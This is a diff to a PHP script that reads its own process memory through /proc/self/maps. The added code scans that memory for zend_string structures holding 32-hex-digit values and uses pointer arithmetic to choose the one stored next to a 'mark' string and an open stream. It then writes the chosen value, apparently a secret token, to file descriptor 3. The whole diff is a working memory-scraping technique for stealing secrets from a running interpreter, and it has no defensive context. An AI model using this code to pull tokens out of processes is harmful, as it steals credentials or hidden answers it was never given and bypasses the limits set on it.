@@ -15,9 +15,19 @@ foreach (file('/proc/self/maps') as $line) {
     while (strlen($bytes) < $end - $start && ($more = @fread($memory, $end - $start - strlen($bytes))) != '') {
         $bytes .= $more;
     }
-    // The texts of PHP that hold 32 digits: its length, and then its text.
-    if (preg_match_all('/\x20\x00{7}([0-9a-f]{32})\x00/', $bytes, $texts)) {
-        $found = end($texts[1]);
+    // The texts of PHP that hold 32 digits: its length, and then its text. The variables of the token, the mark and
+    // an open stream lie in a row.
+    preg_match_all('/\x20\x00{7}([0-9a-f]{32})\x00/', $bytes, $texts, PREG_OFFSET_CAPTURE);
+    $places = [];
+    foreach ($texts[0] as $at => $whole) {
+        $places[$texts[1][$at][0]] = preg_quote(pack('P', $start + $whole[1] - 16), '/');
+    }
+    foreach ($places as $text => $token) {
+        foreach ($places as $mark) {
+            if (preg_match("/$token.{8}$mark.{16}\x09/s", $bytes)) {
+                $found = $text;
+            }
+        }
     }
 }
 $channel = fopen('php://fd/3', 'w');
